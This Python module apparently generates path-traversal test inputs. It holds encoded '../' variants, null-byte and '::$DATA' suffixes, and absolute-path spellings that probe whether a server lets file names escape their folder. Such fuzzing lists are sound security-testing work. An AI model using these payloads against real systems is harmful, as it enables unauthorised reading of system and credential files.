"""Names that try to leave their folder, as a browser's address line and as a field of JSON."""

from collections.abc import Iterator

STEPS = (
    "../",
    "..%2f",
    "..%2F",
    "%2e%2e/",
    "%2e%2e%2f",
    ".%2e/",
    "..%252f",
    "%252e%252e%252f",
    "..%25252f",
    "..\\",
    "..%5c",
    "%2e%2e%5c",
    "..%255c",
    "..%c0%af",  # overlong UTF-8 of / and .
    "%c0%ae%c0%ae/",
    "%e0%80%ae%e0%80%ae%e0%80%af",
    "%f0%80%80%ae./",
    "..%u2215",
    "..%e2%88%95",  # look-alikes: division slash, fraction slash, full width
    "..%e2%81%84",
    "..%ef%bc%8f",
    "%ef%bc%8e%ef%bc%8e/",
    "%e2%80%a5/",
    "..;/",
    "..;a=b/",
    "....//",
    ".../...//",
    "./.././",
    "x/../../",
    "%00../",
    "..%00/",
    "..%0d%0a/",
    "..%20/",
    "../%09/../",
)
"""One step up, in the spellings that readers of addresses have fallen for."""

TAILS = (
    "",
    "%00",
    "%00.png",
    ".",
    "..",
    "%20",
    "/",
    "%2f",
    "%2f.",
    "::$DATA",
    ":x.png",
    "%3f.png",
    "~",
    ";.png",
)
"""What makes an ending look like another one, or a file system drop the end of a name."""


def absolute(path: str) -> Iterator[str]:
    """Spellings of a whole path of this machine."""
    yield from (path, f"/{path}", f"//{path}", path.replace("/", "%2f"), path.replace("/", "%5c"))
    yield from (f"file://{path}", f"C:{path}", f"C:{path}".replace("/", "\\"), f"~root{path}", f"%00{path}")
    yield from (f"\\\\localhost\\c$\\{path}".replace("\\", "%5c"), f"\\\\?{path}".replace("\\", "%5c"))


def relative(file: str, depth: int) -> Iterator[str]:
    """Spellings of a file so many folders further up."""
    for step in STEPS:
        yield step * depth + file
        yield f"raw/{step * (depth + 1)}{file}"
    for tail in TAILS:
        yield "../" * depth + file + tail
        yield "%2e%2e%2f" * depth + file + tail
